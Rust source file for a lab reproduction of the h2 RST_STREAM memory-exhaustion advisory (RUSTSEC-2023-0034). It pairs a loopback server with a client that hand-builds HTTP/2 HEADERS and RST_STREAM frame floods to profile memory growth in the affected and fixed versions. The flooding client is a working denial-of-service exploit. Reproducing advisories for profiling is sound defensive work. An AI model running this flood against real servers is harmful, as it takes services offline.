//! A reproduction of a published memory-exhaustion advisory in a dependency:
//! RUSTSEC-2023-0034 (h2 before 0.3.17). A client that sends pairs of
//! HEADERS and RST_STREAM frames faster than the server application accepts
//! streams makes h2 queue every reset stream for `accept`, without bound.
//! h2 0.3.17 caps that queue (`max_pending_accept_reset_streams`, 20 by
//! default) and closes such a connection with GOAWAY.
//!
//! One program, built twice against the registry's h2 (`affected/` pins
//! 0.3.16; `fixed/` pins 0.3.18, 0.3.17 being yanked): an h2 server whose
//! application handles one stream at a time with a little work between
//! accepts, and the attacking client, which reconnects whenever the server
//! closes its connection. It runs for `--duration` seconds and is meant to
//! run under `leakscope run` (LD_PRELOAD), unmodified:
//!
//! ```sh
//! CARGO_TARGET_DIR=target/advisory-h2 cargo build --release --locked \
//!     --manifest-path lab/advisory-h2/affected/Cargo.toml
//! leakscope run --interval 0.5 --out out -- \
//!     target/advisory-h2/release/h2-advisory-affected --duration 4
//! leakscope report out --advisory-db PATH
//! ```

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use tokio::net::{TcpListener, TcpStream};

/// HEADERS + RST_STREAM pairs the client sends per millisecond.
const PAIRS_PER_MS: usize = 8;

fn duration_from_args() -> Result<Duration, String> {
    let mut duration = Duration::from_secs(4);
    let mut args = std::env::args().skip(1);
    while let Some(a) = args.next() {
        let value = args.next().ok_or_else(|| format!("{a} needs a value"))?;
        match a.as_str() {
            "--duration" => {
                let secs: f64 = value
                    .parse()
                    .map_err(|e| format!("--duration {value}: {e}"))?;
                duration = Duration::from_secs_f64(secs);
            }
            _ => return Err(format!("unknown argument {a}")),
        }
    }
    Ok(duration)
}

/// Serves every connection in its own task: accepts a stream, answers it,
/// and does a millisecond of other work before the next accept (the
/// application is slower than the attacker).
async fn serve(listener: TcpListener) {
    loop {
        let Ok((socket, _)) = listener.accept().await else {
            continue;
        };
        tokio::spawn(serve_connection(socket));
    }
}

async fn serve_connection(socket: TcpStream) {
    let Ok(mut connection) = h2::server::handshake(socket).await else {
        return;
    };
    while let Some(accepted) = connection.accept().await {
        let Ok((_request, mut respond)) = accepted else {
            // The fixed h2 closes a connection that resets too many streams
            // before they are accepted.
            return;
        };
        let _ = respond.send_response(http::Response::new(()), true);
        tokio::time::sleep(Duration::from_millis(1)).await;
    }
}

/// The attacker speaks HTTP/2 itself, frame by frame (an h2 client would
/// not send a stream's HEADERS and its RST_STREAM back to back).
mod frames {
    pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

    fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
        out.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
        out.extend_from_slice(&[kind, flags]);
        out.extend_from_slice(&stream.to_be_bytes());
        out.extend_from_slice(payload);
    }

    /// An empty SETTINGS frame (the client's connection preface).
    pub fn settings(out: &mut Vec<u8>) {
        frame(out, 0x4, 0, 0, &[]);
    }

    /// HEADERS of `POST /upload` on `stream` (END_HEADERS, not END_STREAM)
    /// with a few headers of 100 bytes each, then RST_STREAM(CANCEL) on it.
    /// h2 keeps each queued stream's decoded headers: the queue grows by
    /// many small blocks, not only by its table doubling now and then.
    pub fn headers_then_reset(out: &mut Vec<u8>, stream: u32) {
        // HPACK: :method POST (static 3), :scheme http (6), :path "/upload"
        // (name from static 4, literal value, not indexed).
        let mut block = vec![0x83, 0x86, 0x04, 7];
        block.extend_from_slice(b"/upload");
        for name in [&b"x-trace-a"[..], b"x-trace-b", b"x-trace-c", b"x-trace-d"] {
            // A literal header with a new name, not indexed (lengths
            // under 127 take one byte, without Huffman coding).
            block.push(0x00);
            block.push(name.len() as u8);
            block.extend_from_slice(name);
            block.push(100);
            block.extend((0..100u32).map(|i| b'a' + ((stream + i) % 26) as u8));
        }
        frame(out, 0x1, 0x4, stream, &block);
        frame(out, 0x3, 0, stream, &0x8u32.to_be_bytes());
    }
}

/// Opens streams and resets each at once, from one connection at a time,
/// until `deadline`; returns how many streams it reset.
async fn attack(addr: SocketAddr, deadline: Instant) -> u64 {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut pairs = 0;
    while Instant::now() < deadline {
        let Ok(socket) = TcpStream::connect(addr).await else {
            tokio::time::sleep(Duration::from_millis(10)).await;
            continue;
        };
        let (mut from_server, mut to_server) = socket.into_split();
        // What the server sends (its SETTINGS, answers, a GOAWAY) is read
        // and ignored, so that its writes never block.
        let reader = tokio::spawn(async move {
            let mut buf = vec![0u8; 16 << 10];
            while from_server.read(&mut buf).await.is_ok_and(|n| n > 0) {}
        });
        let mut out = frames::PREFACE.to_vec();
        frames::settings(&mut out);
        let mut stream = 1u32;
        let mut closed = false;
        while Instant::now() < deadline && stream < (1 << 30) {
            for _ in 0..PAIRS_PER_MS {
                frames::headers_then_reset(&mut out, stream);
                stream += 2;
            }
            if to_server.write_all(&out).await.is_err() {
                closed = true;
                break;
            }
            pairs += PAIRS_PER_MS as u64;
            out.clear();
            tokio::time::sleep(Duration::from_millis(1)).await;
        }
        if !closed && Instant::now() >= deadline {
            // The last connection stays open (its write half would shut
            // the socket down when dropped; its reader goes on), so that
            // the server keeps what it queued: the profiles taken while
            // the program ends see the state it reached, not a connection
            // torn down a moment before.
            std::mem::forget(to_server);
            break;
        }
        reader.abort();
    }
    pairs
}

fn main() {
    let duration = match duration_from_args() {
        Ok(d) => d,
        Err(e) => {
            eprintln!("h2-advisory: {e}");
            std::process::exit(2);
        }
    };
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .expect("a tokio runtime");
    let pairs = runtime.block_on(async move {
        let listener = TcpListener::bind("127.0.0.1:0")
            .await
            .expect("a loopback port");
        let addr = listener.local_addr().expect("its address");
        tokio::spawn(serve(listener));
        attack(addr, Instant::now() + duration).await
    });
    println!("{pairs} streams opened and reset");
    // The server's state stays alive for the last profile, written at exit.
    std::mem::forget(runtime);
}
